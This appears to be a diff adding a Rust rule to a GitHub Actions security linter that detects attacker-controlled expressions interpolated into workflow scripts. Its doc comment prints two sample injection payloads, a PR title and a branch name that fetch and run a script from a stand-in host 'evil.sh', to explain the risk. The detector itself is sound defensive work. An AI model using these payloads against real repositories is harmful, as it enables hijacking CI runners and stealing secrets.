@@ -1,0 +1,308 @@
+use garrison_report::{Confidence, Finding, RuleMeta, Severity, declare_rule};
+use garrison_workflows::contexts::Control;
+use garrison_workflows::{Step, Workflow, WorkflowFile};
+use garrison_yaml::Node;
+
+use crate::facts::{self, Source};
+use crate::{Audit, Repo, loc};
+
+declare_rule! {
+    /// ## What it checks
+    /// `${{ … }}` expressions inside `run:` scripts (of workflows and composite actions) and
+    /// inside the `script:` input of `actions/github-script` whose value an attacker can
+    /// choose: pull-request titles, bodies and branch names, issue and comment text, commit
+    /// messages, the head branch of a triggering `workflow_run`, and so on. It also follows one
+    /// level of `env:` (`${{ env.TITLE }}` where `TITLE: ${{ github.event.issue.title }}`), and
+    /// reports at lower severity and confidence the values that are attacker-controlled only if
+    /// the caller makes them so: `inputs.*` of composite actions, reusable and dispatched
+    /// workflows, and `steps.*.outputs.*` / `needs.*.outputs.*` in workflows that outsiders
+    /// can trigger.
+    ///
+    /// ## Why it matters
+    /// GitHub substitutes expressions into the script text *before* the shell runs it, so the
+    /// value becomes code. A pull request titled `"; curl evil.sh | sh; #` or a branch named
+    /// `a$(curl${IFS}-sSfL${IFS}evil.sh|sh)` runs arbitrary commands in the runner. Under
+    /// `pull_request_target`, `workflow_run`, `issue_comment` or `issues` the job holds the
+    /// repository's secrets and a write token: this is how the Ultralytics release pipeline was
+    /// compromised in December 2024 (a branch name injected into a `run:` step published a
+    /// cryptominer to PyPI). Branch names cannot contain spaces, but `${IFS}`, `$( )` and `;`
+    /// are enough.
+    ///
+    /// ## Example
+    /// ```yaml
+    /// on: pull_request_target
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "Thanks for ${{ github.event.pull_request.title }}"
+    /// ```
+    ///
+    /// ## Remediation
+    /// Never interpolate untrusted values into code. Pass them through an environment variable
+    /// and quote the variable in the script:
+    ///
+    /// ```yaml
+    ///       - run: echo "Thanks for $TITLE"
+    ///         env:
+    ///           TITLE: ${{ github.event.pull_request.title }}
+    /// ```
+    ///
+    /// In `actions/github-script`, read `context.payload.pull_request.title` or
+    /// `process.env.TITLE` instead of interpolating.
+    pub TemplateInjection {
+        id: "workflow/template-injection",
+        summary: "attacker-controlled expression interpolated into a script",
+        severity: High,
+        help: "pass the value through an environment variable (`env: VALUE: ${{ … }}`) and use \"$VALUE\" in the script",
+        references: [
+            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+            "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+            "https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection",
+            "https://scientific-python.org/specs/spec-0008/",
+        ],
+    }
+}
+
+/// Severity and confidence for a tainted value of `source`.
+pub(crate) fn rating(source: Source, events: &[String]) -> (Severity, Confidence) {
+    match source {
+        Source::OutsiderPrivileged => (Severity::Critical, Confidence::High),
+        Source::Outsider if events.iter().all(|e| e == "workflow_call") => {
+            (Severity::High, Confidence::Low)
+        }
+        Source::Outsider => (Severity::High, Confidence::Medium),
+        Source::Committer => (Severity::Medium, Confidence::Medium),
+        Source::Caller => (Severity::Medium, Confidence::Low),
+        Source::Computed => (Severity::Low, Confidence::Low),
+    }
+}
+
+/// The script sinks of a step: `run:` and `actions/github-script`'s `script:`.
+pub(crate) fn sinks(step: &Step) -> Vec<(&Node, &'static str, &'static str)> {
+    let mut v = Vec::new();
+    if let Some(r) = &step.run {
+        v.push((r, "run", "run"));
+    }
+    if step.uses_action("actions/github-script")
+        && let Some(s) = step.input("script")
+    {
+        v.push((s, "github-script", "with.script"));
+    }
+    v
+}
+
+/// A suggested environment variable name for `ctx` (`github.event.pull_request.title` -> `TITLE`).
+pub(crate) fn env_name(ctx: &str) -> String {
+    let last = ctx
+        .rsplit('.')
+        .find(|s| !s.is_empty() && *s != "*" && !s.starts_with('['))
+        .unwrap_or("value");
+    let n: String = last
+        .chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() {
+                c.to_ascii_uppercase()
+            } else {
+                '_'
+            }
+        })
+        .collect();
+    if n.is_empty() { "VALUE".to_string() } else { n }
+}
+
+fn control_str(c: Control) -> &'static str {
+    match c {
+        Control::Arbitrary => "arbitrary",
+        Control::Structured => "structured",
+    }
+}
+
+fn source_phrase(source: Source, events: &[String]) -> String {
+    match source {
+        Source::OutsiderPrivileged | Source::Outsider if events.is_empty() => {
+            "is attacker-controlled when the caller runs on a pull request, issue or comment"
+                .to_string()
+        }
+        Source::OutsiderPrivileged | Source::Outsider => {
+            format!("is attacker-controlled under {}", events.join(", "))
+        }
+        Source::Committer => "is chosen by commit authors".to_string(),
+        Source::Caller => "is chosen by the caller".to_string(),
+        Source::Computed => {
+            "comes from a step or job output that may carry attacker-controlled data".to_string()
+        }
+    }
+}
+
+/// True for `steps.<id>.outputs.*` of a GitHub-owned setup action (`actions/setup-python`'s
+/// `python-path`, `actions/cache`'s `cache-hit`): values the action computes itself.
+fn trusted_output(siblings: &[Step], context: &str) -> bool {
+    let Some(id) = context
+        .strip_prefix("steps.")
+        .and_then(|r| r.split('.').next())
+    else {
+        return false;
+    };
+    siblings
+        .iter()
+        .find(|s| s.id.as_deref().is_some_and(|i| i.eq_ignore_ascii_case(id)))
+        .and_then(Step::action)
+        .is_some_and(|a| {
+            (a.starts_with("actions/setup-") || a.starts_with("actions/cache"))
+                && a != "actions/github-script"
+        })
+}
+
+struct Hit {
+    context: String,
+    via: Option<String>,
+    source: Source,
+    control: Control,
+    events: Vec<String>,
+    span: garrison_report::Span,
+    count: usize,
+}
+
+/// Audits one step's sinks. `env_scopes` are the step, job and workflow `env:` nodes.
+fn check_step(
+    file: &WorkflowFile,
+    siblings: &[Step],
+    step: &Step,
+    triggers: Option<&[&str]>,
+    env_scopes: &[Option<&Node>],
+    out: &mut Vec<Finding>,
+) {
+    for (node, sink, suffix) in sinks(step) {
+        let mut hits: Vec<Hit> = Vec::new();
+        for e in file.expressions(node) {
+            let Ok(parsed) = &e.parsed else { continue };
+            let mut found = facts::tainted_contexts(parsed, triggers)
+                .into_iter()
+                .map(|(n, s, c, ev)| (n, None, s, c, ev))
+                .collect::<Vec<_>>();
+            for ctx in garrison_expr::flowing_contexts(parsed) {
+                if ctx.root() != "env" {
+                    continue;
+                }
+                let norm = ctx.normalized();
+                let Some(var) = norm.strip_prefix("env.") else {
+                    continue;
+                };
+                if let Some(t) = facts::tainted_env(file, env_scopes, var, triggers) {
+                    for (n, s, c, ev) in t.contexts {
+                        found.push((norm.clone(), Some(n), s, c, ev));
+                    }
+                }
+            }
+            for (context, via, source, control, events) in found {
+                if source == Source::Computed && trusted_output(siblings, &context) {
+                    continue;
+                }
+                if let Some(h) = hits.iter_mut().find(|h| h.context == context) {
+                    h.count += 1;
+                    if source < h.source {
+                        h.source = source;
+                        h.via = via;
+                        h.events = events;
+                    }
+                    continue;
+                }
+                hits.push(Hit {
+                    context,
+                    via,
+                    source,
+                    control,
+                    events,
+                    span: e.span,
+                    count: 1,
+                });
+            }
+        }
+        for h in hits {
+            report(file, step, sink, suffix, h, out);
+        }
+    }
+}
+
+fn report(
+    file: &WorkflowFile,
+    step: &Step,
+    sink: &str,
+    suffix: &str,
+    h: Hit,
+    out: &mut Vec<Finding>,
+) {
+    let (severity, confidence) = rating(h.source, &h.events);
+    let origin = h.via.as_deref().unwrap_or(&h.context);
+    let what = match &h.via {
+        Some(v) => format!("`{}` (set from `{v}`)", h.context),
+        None => format!("`{}`", h.context),
+    };
+    let sink_name = if sink == "run" {
+        "a run: script"
+    } else {
+        "an actions/github-script script"
+    };
+    let message = format!(
+        "{what} is interpolated into {sink_name} in step `{}`; the value {}",
+        step.label(),
+        source_phrase(h.source, &h.events)
+    );
+    let var = env_name(&h.context);
+    let help = if sink == "run" {
+        format!(
+            "pass the value through an environment variable: `env: {var}: ${{{{ {origin} }}}}` on the step, then use \"${var}\" (quoted) in the script"
+        )
+    } else {
+        format!(
+            "pass the value through an environment variable: `env: {var}: ${{{{ {origin} }}}}`, then read `process.env.{var}` in the script"
+        )
+    };
+    let mut b = Finding::builder(&TemplateInjection::META)
+        .message(message)
+        .severity(severity)
+        .confidence(confidence)
+        .location(
+            loc(&file.path, h.span, crate::route(&step.route, suffix))
+                .with_note(format!("{} becomes part of the script", h.context)),
+        )
+        .evidence("context", h.context.clone())
+        .evidence("sink", sink)
+        .evidence("control", control_str(h.control))
+        .help(help)
+        .key(h.context.clone());
+    if !h.events.is_empty() {
+        b = b.evidence("triggers", h.events.clone());
+    }
+    if let Some(v) = &h.via {
+        b = b.evidence("via_env", v.clone());
+    }
+    if h.count > 1 {
+        b = b.evidence("occurrences", h.count);
+    }
+    out.push(b.build());
+}
+
+impl Audit for TemplateInjection {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn workflow(&self, _repo: &Repo, wf: &Workflow, out: &mut Vec<Finding>) {
+        let triggers = facts::trigger_names(wf);
+        for job in &wf.jobs {
+            for step in &job.steps {
+                let scopes = [step.env.as_ref(), job.env.as_ref(), wf.env.as_ref()];
+                check_step(&wf.file, &job.steps, step, Some(&triggers), &scopes, out);
+            }
+        }
+    }
+
+    fn action(&self, _repo: &Repo, action: &garrison_workflows::Action, out: &mut Vec<Finding>) {
+        for step in &action.steps {
+            let scopes = [step.env.as_ref()];
+            check_step(&action.file, &action.steps, step, None, &scopes, out);
+        }
+    }
+}
